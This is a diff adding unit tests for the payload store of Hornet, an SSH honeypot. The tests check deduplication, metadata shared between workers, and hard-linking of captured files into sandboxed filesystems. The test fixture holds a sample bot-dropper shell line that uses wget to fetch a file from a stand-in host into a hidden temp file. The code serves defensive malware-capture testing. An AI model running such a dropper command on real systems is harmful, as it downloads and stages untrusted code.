@@ -0,0 +1,111 @@
+# !/usr/bin/env python
+#
+# Hornet - SSH Honeypot
+#
+# Copyright (C) 2015 Aniket Panse <aniketpanse@gmail.com>
+#
+# This program is free software: you can redistribute it and/or modify
+# it under the terms of the GNU General Public License as published by
+# the Free Software Foundation, either version 3 of the License, or
+# (at your option) any later version.
+#
+# This program is distributed in the hope that it will be useful,
+# but WITHOUT ANY WARRANTY; without even the implied warranty of
+# MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+# GNU General Public License for more details.
+#
+# You should have received a copy of the GNU General Public License
+# along with this program.  If not, see <http://www.gnu.org/licenses/>.
+
+import gevent.monkey
+
+gevent.monkey.patch_all()
+
+import hashlib
+import io
+import os
+import shutil
+import tempfile
+import unittest
+
+from hornet.core.fs_wrapper import SandboxedFS, MemorySandboxedFS, OverlayFS
+from hornet.core.payloads import PayloadStore
+
+
+class _Unreadable(object):
+
+    def seek(self, offset):
+        raise AssertionError('Known payloads must not be stored again')
+
+
+class HornetTests(unittest.TestCase):
+
+    def setUp(self):
+        self.working_dir = tempfile.mkdtemp()
+        self.store = PayloadStore(os.path.join(self.working_dir, 'payloads'))
+        self.payload = b'#!/bin/sh\nwget http://example.com/bot -O /tmp/.bot\n'
+        self.sha256 = hashlib.sha256(self.payload).hexdigest()
+
+    def tearDown(self):
+        shutil.rmtree(self.working_dir)
+
+    def test_add_deduplicated(self):
+        """ Tests whether a payload is stored once, and later captures only update its metadata """
+
+        self.store.add(self.sha256, io.BytesIO(self.payload), len(self.payload), 'http://a.example.com/x.sh')
+        metadata = self.store.add(self.sha256, _Unreadable(), len(self.payload), 'http://b.example.com/x.sh')
+
+        self.assertEquals(metadata['count'], 2)
+        self.assertEquals(metadata['size'], len(self.payload))
+        self.assertEquals(metadata['urls'], ['http://a.example.com/x.sh', 'http://b.example.com/x.sh'])
+        self.assertTrue(metadata['first_seen'] <= metadata['last_seen'])
+        with open(self.store.path(self.sha256), 'rb') as payload_file:
+            self.assertEquals(payload_file.read(), self.payload)
+
+        # The known hashes are picked up again on startup
+        self.assertTrue(self.sha256 in PayloadStore(self.store.directory))
+
+    def test_add_shared(self):
+        """ Tests whether captures recorded by another worker's store are kept """
+
+        other_worker = PayloadStore(self.store.directory)
+        first = self.store.add(self.sha256, io.BytesIO(self.payload), len(self.payload), 'http://a.example.com/x.sh')
+        metadata = other_worker.add(self.sha256, _Unreadable(), len(self.payload), 'http://b.example.com/x.sh')
+
+        self.assertEquals(metadata['count'], 2)
+        self.assertEquals(metadata['first_seen'], first['first_seen'])
+        self.assertEquals(metadata['urls'], ['http://a.example.com/x.sh', 'http://b.example.com/x.sh'])
+        self.assertEquals(self.store.get_metadata(self.sha256), metadata)
+        self.assertEquals(sorted(os.listdir(os.path.dirname(self.store.path(self.sha256)))),
+                          [self.sha256, self.sha256 + '.json'])
+
+    def test_link(self):
+        """ Tests whether stored payloads are hard linked into vhosts on disk, and referenced in memory """
+
+        self.store.add(self.sha256, io.BytesIO(self.payload), len(self.payload), 'http://example.com/x.sh')
+
+        vhost_dir = os.path.join(self.working_dir, 'vhost')
+        os.mkdir(vhost_dir)
+        disk_fs = SandboxedFS(vhost_dir)
+        disk_fs.setbytes(u'/x.sh', b'old')
+        self.store.link(self.sha256, disk_fs, u'/x.sh')
+        self.assertEquals(os.stat(os.path.join(vhost_dir, 'x.sh')).st_ino,
+                          os.stat(self.store.path(self.sha256)).st_ino)
+
+        for memory_fs in (MemorySandboxedFS(), OverlayFS(disk_fs)):
+            memory_fs.makedirs(u'/tmp', recreate=True)
+            self.store.link(self.sha256, memory_fs, u'/tmp/x.sh')
+            self.assertEquals(memory_fs.getbytes(u'/tmp/x.sh'), self.payload)
+            self.assertEquals(memory_fs.getsize(u'/tmp/x.sh'), len(self.payload))
+            self.assertEquals(memory_fs.stat(u'/tmp/x.sh').st_size, len(self.payload))
+
+            # Only a reference is kept in memory, until the file is written to
+            memory_fs.move(u'/tmp/x.sh', u'/tmp/y.sh')
+            upper = memory_fs.upper if isinstance(memory_fs, OverlayFS) else memory_fs
+            self.assertEquals(upper.get_reference(u'/tmp/y.sh'), self.store.path(self.sha256))
+            with memory_fs.open(u'/tmp/y.sh', 'ab') as payload_file:
+                payload_file.write(b'\n')
+            self.assertEquals(upper.get_reference(u'/tmp/y.sh'), None)
+            self.assertEquals(memory_fs.getbytes(u'/tmp/y.sh'), self.payload + b'\n')
+            with open(self.store.path(self.sha256), 'rb') as payload_file:
+                self.assertEquals(payload_file.read(), self.payload)